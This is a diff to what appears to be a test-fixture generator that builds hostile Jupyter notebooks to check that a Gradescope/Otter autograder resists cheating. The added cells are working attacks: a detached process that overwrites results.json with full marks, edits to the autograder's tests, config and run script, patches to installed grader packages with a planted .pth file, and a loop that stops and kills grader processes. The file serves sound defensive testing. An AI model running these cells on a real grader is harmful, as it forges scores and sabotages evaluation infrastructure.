@@ -13,8 +13,23 @@ with attack cells added; when Otter runs it, the attack runs in the student's ke
   code when loaded, leaves pickles where the runner might read them and sends one to the
   runner's logging socket; the payload writes the file named by ``MLSYS_HOSTILE_MARKER``;
 - ``kill-kernel-mid-run`` — ends the kernel process before Otter's last cell, so no kernel
-  results exist, and ``never-finishes`` — a cell that loops forever (neither is one of the four
-  required attacks: they show that a dead or hung kernel still gets its score of record).
+  results exist, and ``never-finishes`` — a cell that loops forever (they show that a dead or
+  hung kernel still gets its score of record).
+
+Attacks on the Gradescope container itself (each acts only where ``/autograder/submission_metadata.json``
+exists, so running one by mistake on a workstation does nothing; the tests run them only in
+the Gradescope emulator):
+
+- ``detached-process-rewrites-results`` — starts a process in a new session that outlives the
+  notebook, waits for ``/autograder/results/results.json`` and rewrites it with full marks;
+- ``edit-autograder-source`` — rewrites the autograder's tests and ``otter_config.json`` and
+  plants a ``mlsys_grader`` package in ``/autograder/source`` to shadow the grader;
+- ``edit-run-autograder`` — appends a line to ``/autograder/run_autograder`` that would write
+  forged results after grading (bash reads that script while it runs);
+- ``edit-grader-install`` — patches the installed ``mlsys_grader`` and ``otter`` files of the
+  grading environment and drops a ``.pth`` file into its ``site-packages``;
+- ``signal-grader`` — stops and kills every process of the grader (``SIGSTOP`` would leave
+  the run hanging until Gradescope's timeout, which scores 0).
 
 The tests pair each notebook with the bundle "actually submitted" (see :func:`submitted_bundle`).
 Regenerate with ``python tests/hostile/make_hostile.py``; the output is committed.
@@ -37,9 +52,9 @@ LAB = "lab07"
 
 def tamper_numbers(text: str) -> str:
     """Halve the first float in part A's result and re-seal the bundle, as an editor of the JSON would."""
-    from mlsys_grader import Bundle
+    from mlsys_grader import Bundle, load_bundle
 
-    data = json.loads(text)
+    data = load_bundle(text).model_dump(mode="json")  # the current schema, whatever version was saved
 
     def halve(node):
         for key, value in node.items():
@@ -56,9 +71,9 @@ def tamper_numbers(text: str) -> str:
 
 def drop_parts(text: str, parts: tuple[str, ...]) -> str:
     """The bundle without the evidence of ``parts`` (a student who stopped early), re-sealed."""
-    from mlsys_grader import Bundle
+    from mlsys_grader import Bundle, load_bundle
 
-    data = json.loads(text)
+    data = load_bundle(text).model_dump(mode="json")
     for part in parts:
         data["evidence"].pop(part, None)
     return Bundle.model_validate(data).sealed().to_json()
@@ -176,6 +191,113 @@ while True:
     pass
 '''
 
+CONTAINER_ONLY = "import os\nif not os.path.isfile('/autograder/submission_metadata.json'):\n    raise SystemExit('not in a Gradescope container')\n"
+
+
+def _guarded(cell: str) -> str:
+    """The cell with :data:`CONTAINER_ONLY` after its first (comment) line."""
+    first, _, rest = cell.partition("\n")
+    return first + "\n" + CONTAINER_ONLY + rest
+
+DETACHED_FORGER = _guarded('''\
+# HOSTILE: a process in its own session outlives the notebook and rewrites Gradescope's results
+import subprocess, sys
+FORGER = r"""
+import json, time
+path = "/autograder/results/results.json"
+forged = {"score": 100.0, "output": "forged", "tests": [{"name": "Part A", "score": 100.0, "max_score": 100.0}]}
+end = time.time() + 900
+while time.time() < end:
+    try:
+        with open(path) as handle:
+            current = json.load(handle)
+        if current.get("output") != "forged":
+            with open(path, "w") as handle:
+                json.dump(forged, handle)
+    except (OSError, ValueError):
+        pass
+    time.sleep(0.05)
+"""
+subprocess.Popen([sys.executable, "-c", FORGER], start_new_session=True, stdin=subprocess.DEVNULL,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
+''')
+
+EDIT_SOURCE = _guarded('''\
+# HOSTILE: rewrite the autograder's tests and config, and plant a package that shadows the grader
+import glob, json
+refused = []
+def attempt(action):
+    try:
+        action()
+    except OSError as exc:
+        refused.append(str(exc))
+for path in glob.glob("/autograder/source/tests/*.py"):
+    attempt(lambda path=path: open(path, "a").write("\\n# all tests pass\\n"))
+def _config():
+    config = json.load(open("/autograder/source/otter_config.json"))
+    config["plugins"] = []
+    json.dump(config, open("/autograder/source/otter_config.json", "w"))
+attempt(_config)
+def _shadow():
+    os.makedirs("/autograder/source/mlsys_grader/gradescope", exist_ok=True)
+    open("/autograder/source/mlsys_grader/__init__.py", "w").write("raise SystemExit('shadowed')\\n")
+attempt(_shadow)
+if refused:
+    raise PermissionError("; ".join(refused))
+''')
+
+EDIT_RUN_AUTOGRADER = _guarded('''\
+# HOSTILE: append a line to run_autograder that writes forged results after grading
+line = "\\necho '{\\"score\\": 100.0, \\"tests\\": []}' > /autograder/results/results.json\\n"
+with open("/autograder/run_autograder", "a") as handle:
+    handle.write(line)
+''')
+
+EDIT_INSTALL = _guarded('''\
+# HOSTILE: patch the grading environment's installed mlsys_grader and otter, and add a .pth file
+import site
+import mlsys_grader, otter
+PATCH = "\\n_forge = gradescope_results\\ndef gradescope_results(*a, **k):\\n    d = _forge(*a, **k)\\n    d['score'] = 100.0\\n    return d\\n"
+targets = [os.path.join(os.path.dirname(mlsys_grader.__file__), "gradescope", "_results.py"),
+           os.path.join(os.path.dirname(otter.__file__), "test_files", "__init__.py")]
+refused = []
+for target in targets:
+    try:
+        with open(target, "a") as handle:
+            handle.write(PATCH)
+    except OSError as exc:
+        refused.append(str(exc))
+for folder in site.getsitepackages():
+    try:
+        with open(os.path.join(folder, "zz-forge.pth"), "w") as handle:
+            handle.write("import os; os.environ['MLSYS_FORGED'] = '1'\\n")
+    except OSError as exc:
+        refused.append(str(exc))
+if refused:
+    raise PermissionError("; ".join(refused))
+''')
+
+SIGNAL_GRADER = _guarded('''\
+# HOSTILE: stop, then kill, every process of the grader (a stopped grader never writes its results)
+import signal
+refused, me = [], os.getpid()
+for entry in os.listdir("/proc"):
+    if not entry.isdigit() or int(entry) in (me, os.getppid()):
+        continue
+    try:
+        command = open(f"/proc/{entry}/cmdline", "rb").read().replace(b"\\0", b" ").decode()
+    except OSError:
+        continue
+    if "mlsys_grader.gradescope /autograder" in command or "run_autograder" in command or entry == "1":
+        for sig in (signal.SIGSTOP, signal.SIGKILL):
+            try:
+                os.kill(int(entry), sig)
+            except OSError as exc:
+                refused.append(f"{entry}: {exc}")
+if refused:
+    raise PermissionError("; ".join(refused))
+''')
+
 ATTACKS = {
     "monkeypatch-grader-and-edit-numbers": (MONKEYPATCH_EARLY, EDIT_NUMBERS_LATE),
     "replace-otter-test-runner": (REPLACE_OTTER, None),
@@ -183,7 +305,14 @@ ATTACKS = {
     "pickle-payload-for-runner": (None, PICKLE_PAYLOAD),
     "kill-kernel-mid-run": (None, KILL_KERNEL),
     "never-finishes": (None, NEVER_FINISH),
+    "detached-process-rewrites-results": (None, DETACHED_FORGER),
+    "edit-autograder-source": (None, EDIT_SOURCE),
+    "edit-run-autograder": (None, EDIT_RUN_AUTOGRADER),
+    "edit-grader-install": (None, EDIT_INSTALL),
+    "signal-grader": (None, SIGNAL_GRADER),
 }
+CONTAINER_ATTACKS = ("detached-process-rewrites-results", "edit-autograder-source", "edit-run-autograder",
+                     "edit-grader-install", "signal-grader")
 
 
 def hostile(name: str) -> nbformat.NotebookNode:
